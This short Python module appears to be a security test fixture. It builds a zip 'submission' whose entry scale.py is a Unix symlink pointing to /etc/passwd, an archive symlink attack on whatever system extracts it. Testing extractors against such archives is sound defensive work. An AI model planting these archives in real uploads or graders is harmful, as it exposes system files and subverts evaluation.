"""Builds what git cannot hold: see attack.toml."""

import zipfile
from pathlib import Path

SCALE = "class Scale:\n    pass\n"


def make(folder: Path) -> Path:
    """Return the submission."""
    path = folder / "work.zip"
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        link = zipfile.ZipInfo("scale.py")
        link.create_system, link.external_attr = 3, 0o120777 << 16
        archive.writestr(link, "/etc/passwd")
    return path
